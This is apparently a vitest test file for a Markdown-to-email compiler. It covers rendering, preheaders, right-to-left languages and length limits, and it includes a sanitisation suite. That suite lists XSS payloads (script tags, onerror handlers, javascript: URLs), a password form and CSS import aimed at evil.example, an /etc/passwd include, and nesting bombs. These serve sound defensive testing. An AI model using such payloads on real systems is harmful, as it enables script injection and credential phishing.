import { describe, expect, test } from 'vitest';
import { compileLetterEmail, fillSlots, type EmailParts } from '../../src/emails/index.ts';
import { slot } from '../../src/emails/compile/slots.ts';
import { aBrand } from '../support/sends/emails.ts';
import { lintBulkContent, lintHtml, preheaderOf, wordsOf } from '../support/mail/linter-html.ts';

const values = {
  unsubscribeUrl: 'https://news.example/unsubscribe/AQLmC0x9vEw2eH8kQpZ4sT1yUa?a=1&b=2',
  preferencesUrl: 'https://news.example/preferences/AQLmC0x9vEw2eH8kQpZ4sT1yUa',
  viewUrl: 'https://news.example/view/AQLmC0x9vEw2eH8kQpZ4sT1yUa',
};
type Input = Parameters<typeof compileLetterEmail>[0];
const compile = (markdown: string, changes: Partial<Input> = {}) =>
  compileLetterEmail({ brand: aBrand(), subject: 'A letter', preheader: '', markdown, ...changes });

async function emailOf(markdown: string, changes: Partial<Input> = {}): Promise<EmailParts> {
  const compiled = await compile(markdown, changes);
  if (!('email' in compiled)) throw new Error(`a fault: ${JSON.stringify(compiled.fault)}`);
  return fillSlots(compiled.email, values);
}
const lint = ({ html, text }: EmailParts) => [
  ...lintHtml(html),
  ...lintBulkContent(html, text, values.unsubscribeUrl),
];

const EVERYTHING = `# Dear readers

We have **moved** to a _new_ house: [see it](/house), or write to <mailto:desk@gazette.example>.

## What changes

1. The address
2. The phone

- [x] Boxes
- [ ] Pictures

> A promise.

| Day | Open |
|---|---|
| Mon | 9–5 |

![The house](/house.jpg)

\`code\` and ~~old~~ https://gazette.example/map

---

Yours, the editor`;

describe('The email of a letter', () => {
  test('keeps every rule of mail to an audience, and shows what the editor wrote', async () => {
    const email = await emailOf(EVERYTHING, { subject: 'We have moved' });
    expect(lint(email)).toEqual([]);
    expect(email.subject).toBe('We have moved');
    expect(email.html).toContain('<h2');
    expect(email.html).toContain('href="https://gazette.example/house"');
    expect(email.html).toContain('src="https://gazette.example/house.jpg"');
    const words = wordsOf(email.html);
    for (const part of [
      'We have moved',
      'Dear readers',
      'moved',
      '☑ Boxes',
      '☐ Pictures',
      'A promise.',
      '9–5',
    ])
      expect(words).toContain(part);
    for (const part of ['https://gazette.example/house', 'https://gazette.example/map', 'Yours, the editor'])
      expect(email.text).toContain(part);
    expect(email.text).toMatch(/^Dear readers\n\nWe have moved/);
  });

  test('has the items of a list one below the other in its text part, the first one as well', async () => {
    const { text } = await emailOf('- bread\n- milk\n\nThen go.');
    expect(text).toContain(' * bread\n * milk\n\nThen go.');
  });

  test('begins in the inbox with its preheader, or else with its text (HTM-05)', async () => {
    const preheader = 'A new house by the harbour, with room for all of us';
    const email = await emailOf('Hello.', { preheader });
    expect(preheaderOf(email.html)).toBe(preheader);
    expect(email.text).toMatch(/^A new house by the harbour, with room for all of us\n\nHello\./);
    expect(preheaderOf((await emailOf('Hello.')).html)).toMatch(/^Hello\. · You get this email because/);
  });

  test('speaks the language of its publication, right to left where that is so', async () => {
    const german = await emailOf('Guten Tag.', { brand: aBrand({ language: 'de' }) });
    expect(wordsOf(german.html)).toContain('Abbestellen');
    const arabic = await emailOf('مرحبا', { brand: aBrand({ language: 'ar' }) });
    expect(arabic.html).toContain('dir="rtl"');
    expect([...lint(german), ...lint(arabic)]).toEqual([]);
  });

  test('is the same for the same input', async () => {
    expect(await compile(EVERYTHING)).toEqual(await compile(EVERYTHING));
  });

  test.each(['', '  \n\n ', '<!-- nothing -->', '[hidden]: https://gazette.example'])(
    'is none without text: %j',
    async (markdown) => {
      expect(await compile(markdown)).toEqual({ fault: 'empty' });
    },
  );

  test('is none when mail programs would cut it off: nothing is shortened in silence (HTM-01)', async () => {
    const compiled = await compile('A paragraph of words. '.repeat(6_000));
    expect(compiled).toEqual({ fault: { tooLongBy: expect.any(Number) } });
    expect(lint(await emailOf('A paragraph of words. '.repeat(3_500)))).toEqual([]);
  });
});

describe('Hostile Markdown (SEC-12)', () => {
  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '[x](javascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '![x](javascript:alert(1))',
    '<style>@import url(https://evil.example)</style>',
    '<form action="https://evil.example"><input name=password></form>',
    '<iframe src="javascript:alert(1)" onload="alert(1)"></iframe>',
    '<video src="data:text/html,x" onerror="alert(1)"></video>',
    '<mj-include path="/etc/passwd" />',
    '<!--[if mso]><script>1</script><![endif]-->',
    '<div style="position:fixed;background:url(https://evil.example)">x</div>',
  ])('%s leaves nothing that runs, loads or deceives', async (markdown) => {
    const email = await emailOf(`${markdown}\n\nThe end.`);
    expect(lint(email)).toEqual([]);
    expect(email.html).not.toMatch(/evil\.example|alert\(1\)<\/script|javascript:|<mj-|position:fixed/);
    expect(wordsOf(email.html)).toContain('The end.');
  });

  test('A slot in a letter, its subject or its preheader is no slot', async () => {
    const forged = slot('unsubscribeUrl');
    const email = await emailOf(`Hello ${forged}`, { subject: `Hi ${forged}`, preheader: `Pre ${forged}` });
    expect(email.subject).toBe('Hi unsubscribeUrl');
    expect(lint(email)).toEqual([]);
  });

  test.each([
    ['quotes', '>'.repeat(90_000)],
    ['lists', '1. '.repeat(30_000)],
    ['brackets', '['.repeat(90_000)],
    ['emphasis', '*a _b '.repeat(15_000)],
    ['back-ticks', '`a'.repeat(45_000)],
    ['indented items', Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n')],
  ])('90 kB of nested %s are answered, not choked on', async (_what, markdown) => {
    // Within the deadline of the child, or it throws.
    const compiled = await compile(markdown);
    expect('email' in compiled || 'fault' in compiled).toBe(true);
  });
});

describe('As it was typed', () => {
  test('A letter that begins with a heading shows it as its title, and the subject only in the list of mails', async () => {
    const { html, text } = await emailOf('# Dear readers\n\nWe moved.', { subject: 'A new house' });
    expect(html).toMatch(/<h1[^>]*>Dear readers<\/h1>/);
    expect(wordsOf(html)).not.toContain('A new house');
    expect(text).toMatch(/^Dear readers\n\nWe moved\./);
    const same = await emailOf('A new house\n===\n\nWe moved.', { subject: 'A new house!' });
    expect(wordsOf(same.html).match(/A new house/g)).toHaveLength(1);
    expect(same.text).toMatch(/^We moved\./);
  });

  test('Short lines keep their ends, long ones flow on', async () => {
    const long =
      'These words were broken at the edge of the editor’s window, by the program that\nwrote them, and they flow on in the mail as if they had never been broken at all,\nto the end.';
    const { html, text } = await emailOf(
      `${long}\n\nYours,\nAnn\n\n> Roses are red,\n> violets blue\n\n- one\n- two\nlines`,
    );
    expect(wordsOf(html)).toContain('program that wrote them');
    expect(html).toMatch(/Yours,<br[^>]*>\s*Ann/);
    expect(html).toMatch(/Roses are red,<br[^>]*>\s*violets blue/);
    expect(html).not.toMatch(/program that<br|at all,<br/);
    expect(text).toContain('Yours,\nAnn');
  });

  test.each([
    '```\na\nb\n```',
    '| a | b |\n|---|---|\n| c | d |',
    '# a\nb',
    'a\n===\nb',
    'a\n- b',
    '<p>\na\nb\n</p>',
    'a  \nb',
  ])('Line ends that mean something stay what they are: %j', async (markdown) => {
    const { html } = await emailOf(`x\n\n${markdown}`);
    expect(html.match(/a<br[^>]*>\s*<br/)).toBeNull();
  });
});
